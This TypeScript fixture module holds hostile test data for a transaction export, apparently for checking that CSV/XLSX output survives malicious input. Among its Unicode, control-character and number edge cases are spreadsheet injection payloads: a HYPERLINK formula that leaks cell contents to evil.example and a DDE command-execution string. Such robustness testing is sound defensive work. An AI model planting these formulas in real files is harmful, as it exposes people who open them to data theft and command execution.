/** The hostile profiles' data: texts, amounts, values and keys that break careless readers (`data.ts`). */
import type { SimulatedProfile } from './types.ts';

/**
 * A profile whose transactions carry hostile data ({@link HOSTILE_TEXTS}, {@link HOSTILE_AMOUNTS},
 * {@link HOSTILE_VALUES}, {@link HOSTILE_EXTRA_KEYS}): the same dates, count, deletions and filter
 * facts (category, protocol, tokens for `cf`, `p`, `t`) as a normal profile of that name, but the
 * text, amounts and extra fields of each transaction replaced. Not among the default profiles.
 */
export interface HostileProfile extends SimulatedProfile {
  hostile: true;
}

/** Whether `profile` asks for hostile data. */
export function isHostileProfile(profile: SimulatedProfile): profile is HostileProfile {
  return (profile as Partial<HostileProfile>).hostile === true;
}

/** Length of the long hostile strings: past Excel's 32,767 characters per cell. */
export const HOSTILE_LONG_LENGTH = 40_000;

/** Every C0 control character and DEL, in order. */
const ALL_CONTROLS = `${Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('')}\u007f`;

/**
 * Text a hostile service may send in any text field: spreadsheet formulas and DDE, every control
 * character, CSV and XML syntax, OOXML escape look-alikes, strings past Excel's cell limit,
 * emoji, right-to-left text, bidi overrides, combining marks, lone surrogates, empty text.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''@x",
  "'plain quote",
  ' =1+1',
  '＝1+1',
  '-',
  '+',
  '@',
  '=',
  ALL_CONTROLS,
  `nul\u0000inside`,
  'bell\u0007 and escape \u001b[31mred\u001b[0m',
  'line one\nline two',
  'carriage\rreturn',
  'crlf\r\nline',
  'tab\tinside\t',
  'del\u007f',
  'vertical\u000btab and form\u000cfeed',
  '"quoted", comma; semicolon\ttab',
  '"',
  '""',
  '  padded both sides  ',
  ' ',
  '',
  '<b>&amp;</b> ]]> <!-- x -->',
  '_x0041_ is not A',
  '_x005F_x0041_',
  '_xD800_',
  '🚀💰🇩🇪👩‍👩‍👧',
  'مرحبا بالعالم',
  'שלום',
  '\u202eevil.exe\u202c',
  '\u2066isolate\u2069',
  'e\u0301\u0301\u0301 Z\u0351\u0337a\u0338l\u0334g\u0335o',
  '東京 Zürich Ελλάδα',
  '\u200bzero\u200dwidth\ufeff',
  '\ufeffbom first',
  'lone high \ud800 surrogate',
  'lone low \udc00 surrogate',
  '\udfff\ud800',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'nbsp\u00a0and line\u2028separator\u2029',
  '\u0085next line and C1 \u009b',
  '0012',
  '1e5',
  '1,5',
  'TRUE',
  '2025-01-01',
  'null',
  `=${'L'.repeat(HOSTILE_LONG_LENGTH - 1)}`,
  `${'🚀'.repeat(HOSTILE_LONG_LENGTH / 2)}`,
  `${'ab\u0000'.repeat(HOSTILE_LONG_LENGTH / 3)}`,
];

/**
 * Token quantities: 30 significant digits, more than 18 decimals, negative zero, exponents (some
 * past a spreadsheet number's range). The export keeps them exact (plain decimals; in XLSX the
 * `(exact)` companion holds the digits).
 */
export const HOSTILE_AMOUNTS: readonly string[] = [
  '123456789012345.123456789012345',
  '-123456789012345.123456789012345',
  '0.000000000000123456789012345678901234',
  '-999999999999999999999999999999',
  '1234567890123456789012345678.90',
  '-0',
  '-0.000',
  '0.000000000000000000',
  '1e-7',
  '-1.5E+3',
  '2.5e-30',
  '1E0',
  '7.000000000000000001',
  '00012.50',
  '1e400',
  '-1e-400',
];

/** Fiat values and fees: at most 15 significant digits (Excel holds them exactly) in odd forms. */
export const HOSTILE_VALUES: readonly string[] = [
  '-0',
  '-0.000',
  '1e-7',
  '1.5E+3',
  '-2.5e-3',
  '1E+2',
  '999999999999999',
  '-0.000000000000001',
  '4210.55',
  '0.10',
  '100',
  '-7.5',
];

/**
 * Names of unknown extra fields (each becomes an extra column): formula-like, control characters,
 * dots and brackets that look like paths, non-ASCII. `nest` holds a nested object whose path
 * collides with the literal key `nest.inner`.
 */
export const HOSTILE_EXTRA_KEYS: readonly string[] = [
  '=extra()',
  '@extra',
  '-extra',
  'tab\textra',
  'ключ',
  '🚀',
  'nest.inner',
  'a[0]',
  '',
  '__proto__',
  'constructor',
];
